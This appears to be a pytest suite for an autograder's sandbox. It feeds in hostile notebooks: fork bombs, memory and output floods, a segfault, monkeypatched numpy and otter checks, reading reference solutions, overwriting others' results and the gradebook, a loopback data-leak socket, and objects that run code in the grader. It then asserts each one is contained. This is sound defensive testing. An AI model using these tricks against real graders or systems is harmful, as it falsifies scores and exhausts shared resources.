"""One batch of hostile notebooks mixed with honest ones, graded through the real path with the
sandbox on. Each hostile notebook is the reference plus one attack: it must get a results file,
score 0 on what it did not honestly compute, keep what it did, and leave the others intact."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
from pathlib import Path

import pytest
from support import (
    answers_source,
    document,
    new_notebook,
    one_cell_submission,
    question_scores,
    reference_source,
    report,
    results,
    write,
)

from autograder import assignments
from autograder.cli import main
from autograder.runner.sandbox import slot_uid

ROOT = Path(__file__).resolve().parents[2]
TOTAL = assignments.load("backprop").total_points


def attack(code: str):
    return new_notebook(reference_source("backprop"), answers_source("backprop"), code)


def hostile_notebooks(out: Path, marker: Path, port: int) -> dict:
    reference_file = ROOT / "solutions" / "backprop.py"
    return {
        "infinite_loop": attack("while True:\n    pass"),
        "hangs_one_function": attack("def one_hot(y, num_labels):\n    while True:\n        pass"),
        "allocates_6gib": attack("hog = bytearray(6 * 1024**3)"),
        "fork_burst": attack(
            "import os, time\nfor _ in range(500):\n    try:\n        if os.fork() == 0:\n"
            "            time.sleep(3600)\n    except OSError:\n        break"
        ),
        "os_exit": attack("import os\ndef relative_difference(a, b):\n    os._exit(3)"),
        "segfault": attack(
            "import ctypes\ndef relative_difference(a, b):\n    return ctypes.c_long.from_address(8).value  # reads address 8: SIGSEGV"
        ),
        "floods_output": attack(
            "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(300):\n    sys.stdout.write(chunk)"
        ),
        "patches_numpy": attack(
            "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
            "np.isclose = lambda *a, **k: True\nclass Always(np.ndarray):\n"
            "    def __eq__(self, other):\n        return True\n    __ne__ = lambda self, other: False\n"
            "def feedforward(thetas, X):\n    return [np.zeros((X.shape[0], t.shape[0])).view(Always) for t in [np.zeros((X.shape[1], 1))] + list(thetas)]"
        ),
        "reads_reference": attack(
            f"def nn_cost(thetas, X, Y, lam=0.0):\n    ns = {{}}\n    exec(open({str(reference_file)!r}).read(), ns)\n"
            "    return ns['nn_cost'](thetas, X, Y, lam)\n"
            "def nn_gradients(thetas, X, Y, lam=0.0):\n    import solutions.backprop as s\n    return s.nn_gradients(thetas, X, Y, lam)"
        ),
        "overwrites_results": attack(
            f"import glob, json\nfake = {{'score': 999, 'tests': []}}\nprint(json.dumps(fake))\n"
            f"for path in glob.glob({str(out)!r} + '/students/*/results.json') + [{str(out / 'gradebook.csv')!r}]:\n"
            "    try:\n        open(path, 'w').write(json.dumps(fake))\n    except OSError as exc:\n        print(exc)\n"
        ),
        "phones_home": attack(
            f"import socket\ndef connect():\n    try:\n        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'leak')\n"
            "    except OSError as exc:\n        print('no network:', exc)\nconnect()\n"
            "def relative_difference(a, b):\n    connect()\n    return float(np.linalg.norm(a - b) / np.linalg.norm(a + b))"
        ),
        "sneaky_objects": attack(
            f"MARKER = {str(marker)!r}\nclass Sneaky:\n    def _touch(self, *a):\n        open(MARKER, 'w').write('ran in the grader')\n        return 0.0\n"
            "    __reduce__ = __str__ = __repr__ = __float__ = __index__ = __array__ = _touch\n"
            "def rand_initialize_weights(l_in, l_out, epsilon_init=0.12, rng=None):\n    return Sneaky()\n"
            "def xavier_initialize_weights(l_in, l_out, rng=None):\n    return [Sneaky(), Sneaky()]"
        ),
        "nan_and_wrong_types": attack(
            "def one_hot(y, num_labels):\n    return np.full((len(y), num_labels), np.nan)\n"
            "def nn_gradients(thetas, X, Y, lam=0.0):\n    return 'gradients'"
        ),
        "patches_otter": new_notebook(
            "import otter.test_files.ok_test as t\nt.run_doctest = lambda *a, **k: (True, '')",
            "def sigmoid_gradient(z):\n    ...",
        ),
    }


class Listener:
    """A loopback TCP server on the host: a sandboxed submission must never reach it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port, self.connections, self.running = self.server.getsockname()[1], 0, True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.server.accept()
                self.connections += 1
                conn.close()
            except OSError:
                continue

    def stop(self):
        self.running = False
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    folder, out = tmp_path_factory.mktemp("hostile-in"), tmp_path_factory.mktemp("hostile-out")
    marker = tmp_path_factory.mktemp("hostile-marker") / "parent-ran-student-code"
    listener = Listener()
    try:
        for name, notebook in hostile_notebooks(out, marker, listener.port).items():
            write(notebook, folder / f"{name}.ipynb")
        write(one_cell_submission("backprop"), folder / "honest_a.ipynb")
        write(one_cell_submission("backprop"), folder / "honest_b.ipynb")
        text = json.dumps(one_cell_submission("backprop"))
        (folder / "truncated.ipynb").write_text(text[: len(text) // 3])
        assert (
            main(["grade", "-a", "backprop", str(folder), "-o", str(out), "-j", "2", "--timeout", "20"]) == 0
        )
    finally:
        listener.stop()
    return out, marker, listener


def scores(out, student):
    return question_scores(document(out, student))


def full(out, student, qid):
    got, top = scores(out, student)[qid]
    return got == pytest.approx(top)


def test_every_submission_has_a_results_file_and_honest_ones_full_marks(batch):
    out, _, _ = batch
    folders = [p for p in (out / "students").iterdir() if p.is_dir()]
    assert len(folders) == 17
    for folder in folders:  # the file as written: its score and tests are there, not filled in on reading
        doc = json.loads((folder / "results.json").read_text())
        assert {"score", "tests"} <= set(doc) and (folder / "report.html").exists()
    for honest in ("honest_a", "honest_b"):
        assert document(out, honest).score == pytest.approx(TOTAL)


def test_infinite_loop_is_stopped_and_scores_zero(batch):
    assert document(batch[0], "infinite_loop").score == 0
    assert "ran out of time" in json.dumps(results(batch[0], "infinite_loop"))  # anywhere in the file


def test_hanging_function_loses_alone(batch):
    out = batch[0]
    assert scores(out, "hangs_one_function")["one_hot"][0] == 0
    assert "timeout" in json.dumps(results(out, "hangs_one_function"))  # anywhere in the file
    assert document(out, "hangs_one_function").score == pytest.approx(TOTAL - 2)


@pytest.mark.parametrize("student", ["allocates_6gib", "fork_burst", "floods_output"])
def test_resource_hogs_are_bounded_and_keep_their_honest_marks(batch, student):
    assert document(batch[0], student).score == pytest.approx(TOTAL)


def test_flooded_output_is_capped_in_the_report(batch):
    html = report(batch[0], "floods_output")
    assert "bytes of output omitted" in html and len(html) < 1_000_000


@pytest.mark.parametrize("student", ["os_exit", "segfault"])
def test_dying_process_keeps_what_it_answered_before(batch, student):
    out = batch[0]
    assert full(out, student, "sigmoid_gradient") and full(out, student, "nn_gradients")
    assert scores(out, student)["relative_difference"][0] == 0
    assert scores(out, student)["rand_initialize_weights"][0] == 0  # never reached
    assert "ended before grading finished" in document(out, student).output


def test_patched_numpy_and_always_equal_arrays_do_not_pass(batch):
    out = batch[0]
    assert scores(out, "patches_numpy")["feedforward"][0] == 0
    assert full(out, "patches_numpy", "nn_cost")


def test_reference_and_suites_are_not_readable(batch):
    out = batch[0]
    assert scores(out, "reads_reference")["nn_cost"][0] == 0
    assert scores(out, "reads_reference")["nn_gradients"][0] == 0
    text = json.dumps(results(out, "reads_reference"))  # the whole file, whichever field holds them
    assert "FileNotFoundError" in text and "ModuleNotFoundError" in text


def test_results_cannot_be_overwritten_or_faked(batch):
    out = batch[0]
    doc = document(out, "overwrites_results")
    assert doc.score == pytest.approx(TOTAL)  # graded on its functions; the fake 999 counts for nothing
    assert document(out, "honest_a").score == pytest.approx(TOTAL)
    assert "999" not in (out / "gradebook.csv").read_text()


def test_network_is_unreachable(batch):
    out, _, listener = batch
    assert listener.connections == 0
    assert full(out, "phones_home", "relative_difference")


def test_returned_objects_never_run_in_the_grader(batch):
    out, marker, _ = batch
    assert not marker.exists()
    assert scores(out, "sneaky_objects")["rand_initialize_weights"][0] == 0
    assert scores(out, "sneaky_objects")["xavier_initialize_weights"][0] == 0


def test_nan_wrong_types_malformed_and_otter_patches_score_zero_there(batch):
    out = batch[0]
    assert scores(out, "nan_and_wrong_types")["one_hot"][0] == 0
    assert scores(out, "nan_and_wrong_types")["nn_gradients"][0] == 0
    assert document(out, "truncated").score == 0
    assert document(out, "patches_otter").score == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="per-slot uids exist only when grading as root")
def test_no_process_of_a_submission_survives(batch):
    for slot in range(2):
        found = subprocess.run(["pgrep", "-u", str(slot_uid(slot))], capture_output=True, text=True)
        assert found.stdout.strip() == "", f"processes of slot {slot} survived: {found.stdout}"
